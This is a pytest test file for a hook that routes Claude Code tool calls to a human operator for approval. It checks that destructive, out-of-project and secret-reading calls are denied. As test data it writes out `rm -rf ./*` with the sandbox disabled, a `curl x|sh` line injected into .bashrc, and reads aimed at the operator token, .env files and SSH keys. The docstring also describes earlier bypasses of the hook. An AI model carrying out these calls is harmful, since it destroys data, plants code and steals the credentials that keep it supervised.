"""The hook shows the wrong place, and reads are unsupervised.

- With Claude's cwd outside the project, the operator saw `rm -rf ./*` with cwd `.` in
  the project.
- Without CLAUDE_PROJECT_DIR and with cwd = home, an Edit of ~/.bashrc was allowed.
- Read, Glob and Grep were unsupervised: the agent could read operator.token.

Every test runs the installed hook command through ``sh -c`` as Claude Code does.
"""

from __future__ import annotations

import threading
from pathlib import Path

import pytest
from support.daemon import short_tmp, wait_for, workspace

from console.adapters.claude_code.install import hook_command, run_command


def call(cwd: Path, tool: str, tool_input: dict) -> dict:
    return {
        "session_id": "s",
        "transcript_path": "/dev/null",
        "cwd": str(cwd),
        "hook_event_name": "PreToolUse",
        "tool_name": tool,
        "tool_input": tool_input,
    }


def hook(daemon, payload: dict, *, home: Path, project: Path | None, timeout_s: float = 5):
    env = {"PATH": "/usr/bin:/bin", "HOME": str(home)}
    if project is not None:
        env["CLAUDE_PROJECT_DIR"] = str(project)
    return run_command(hook_command(daemon.state_dir, timeout_s), payload, timeout_s=60, env=env)


def denied(run) -> bool:
    return run.exit_code == 2 or (run.exit_code == 0 and run.decision == "deny")


def test_cwd_outside_the_project_is_shown_as_it_is(daemon):
    ws = workspace()
    elsewhere = short_tmp("elsewhere-")
    box: dict = {}
    t = threading.Thread(
        target=lambda: box.update(
            run=hook(
                daemon,
                call(elsewhere, "Bash", {"command": "rm -rf ./*", "dangerouslyDisableSandbox": True}),
                home=ws.parent,
                project=ws,
                timeout_s=20,
            )
        )
    )
    t.start()
    with daemon.operator() as op:
        item = wait_for(lambda: op.call("pending.list")["pending"])[0]
        shown = item["operation"]
        # Not `.` in the project: the place the command really runs in.
        assert shown["workspace_root"] == str(elsewhere.resolve())
        assert shown["workspace_root"] != str(ws)
        assert f"outside the project {ws}" in shown["justification"]
        op.call("decide", {"target": item["request_id"], "action": "deny", "reason": "wrong place"})
    t.join(30)
    assert denied(box["run"])


def test_edit_of_bashrc_with_cwd_home_and_no_project_dir_is_denied(daemon):
    home = short_tmp("home-")
    (home / ".bashrc").write_text("# mine\n")
    run = hook(
        daemon,
        call(
            home, "Edit", {"file_path": str(home / ".bashrc"), "old_string": "#", "new_string": "curl x|sh #"}
        ),
        home=home,
        project=None,
    )
    assert denied(run), run
    assert "home directory" in run.stderr or run.decision == "deny"


def test_root_or_home_as_project_dir_is_refused(daemon):
    home = short_tmp("home-")
    for project in (Path("/"), home, home.parent):
        run = hook(
            daemon,
            call(home, "Write", {"file_path": str(home / ".profile"), "content": "x"}),
            home=home,
            project=project,
        )
        assert denied(run), (project, run)


@pytest.mark.parametrize(
    ("tool", "tool_input"),
    [
        ("Read", {"file_path": "{state}/operator.token"}),
        ("Read", {"file_path": "{state}/history.sqlite3"}),
        ("Read", {"file_path": "{ws}/src/../../project/link-to-token"}),
        ("Grep", {"pattern": ".", "path": "{state}"}),
        ("Grep", {"pattern": ".", "path": "{state_parent}"}),
        ("Glob", {"pattern": "**/*", "path": "{state}/run"}),
        ("Glob", {"pattern": "*.token", "path": "{state}"}),
        ("Read", {"file_path": "{ws}/.env"}),
        ("Read", {"file_path": "{ws}/deploy/key.pem"}),
        ("Grep", {"pattern": "SECRET", "path": "{ws}", "glob": ".env"}),
        ("Glob", {"pattern": "**/id_rsa*", "path": "{ws}"}),
    ],
)
def test_reads_of_private_state_or_secrets_are_denied(daemon, tool, tool_input):
    ws = workspace()
    (ws / "link-to-token").symlink_to(daemon.state_dir / "operator.token")
    fill = {"state": str(daemon.state_dir), "state_parent": str(daemon.state_dir.parent), "ws": str(ws)}
    payload = call(ws, tool, {k: v.format(**fill) for k, v in tool_input.items()})
    run = hook(daemon, payload, home=ws.parent, project=ws)
    assert run.exit_code == 0 and run.decision == "deny", run


def test_ordinary_reads_are_left_to_claude_code(daemon):
    ws = workspace()
    for tool, tool_input in (
        ("Read", {"file_path": str(ws / "README.md")}),
        ("Grep", {"pattern": "hello", "path": str(ws)}),
        ("Glob", {"pattern": "**/*.py"}),
    ):
        run = hook(daemon, call(ws, tool, tool_input), home=ws.parent, project=ws)
        assert (run.exit_code, run.decision) == (0, None), (tool, run)


def test_reads_of_the_token_are_denied_even_with_the_daemon_down():
    state = short_tmp() / "s"
    state.mkdir()
    (state / "operator.token").write_text("secret\n")
    ws = workspace()
    env = {"PATH": "/usr/bin:/bin", "HOME": str(ws.parent), "CLAUDE_PROJECT_DIR": str(ws)}
    run = run_command(
        hook_command(state, 5), call(ws, "Read", {"file_path": str(state / "operator.token")}), 30, env
    )
    assert run.exit_code == 0 and run.decision == "deny"


def test_the_daemons_refusal_of_a_system_workspace_is_a_deny(daemon):
    """/usr as the project: the hook does not judge it, the daemon refuses it as a
    workspace, and the refusal is a deny (a Write there would otherwise be in-workspace)."""
    home = short_tmp("home-")
    run = hook(
        daemon,
        call(Path("/usr"), "Write", {"file_path": "/usr/lib/x", "content": "x"}),
        home=home,
        project=Path("/usr"),
    )
    assert run.exit_code == 0 and run.decision == "deny", run
